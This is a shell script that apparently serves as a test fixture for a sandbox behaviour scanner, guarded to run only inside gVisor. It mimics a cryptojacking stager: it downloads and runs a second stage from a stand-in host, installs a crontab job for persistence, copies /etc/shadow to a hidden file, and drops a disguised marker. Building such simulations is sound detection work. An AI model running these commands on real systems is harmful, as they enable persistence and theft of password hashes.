#!/bin/sh
# busybox-script imitates the shell stagers of cryptojacking campaigns
# (Kinsing, TeamTNT): download-and-run, a crontab entry for persistence,
# a look at the password hashes and a marker file. Busybox applets exec
# as /bin/busybox with the applet's name in argv[0].

# Same check as the Go programs' guard: do nothing outside gVisor.
if [ "$(uname -v)" != "#1 SMP Sun Jan 10 15:06:54 PST 2016" ]; then
	echo "busybox-script: a sandscan behaviour simulation; not inside gVisor, so doing nothing" >&2
	exit 0
fi
case "$(uname -r)" in
4.4.0 | *-gvisor) ;;
*)
	echo "busybox-script: not inside gVisor, so doing nothing" >&2
	exit 0
	;;
esac

echo "busybox-script: fetching stage two"
# (No -T: busybox 1.35's wget segfaults with it when a connect fails.)
timeout 5 wget -q -O /tmp/p.sh http://dl.example/p.sh && sh /tmp/p.sh || echo "busybox-script: download failed"

echo "busybox-script: installing cron job"
(crontab -l 2>/dev/null; echo '* * * * * /tmp/p.sh') | crontab -
crontab -l

echo "busybox-script: reading password hashes"
cat /etc/shadow > /tmp/.s && wc -l /tmp/.s

echo "installed $(date -u +%s)" > /var/tmp/.sysupdate
echo "busybox-script: done"
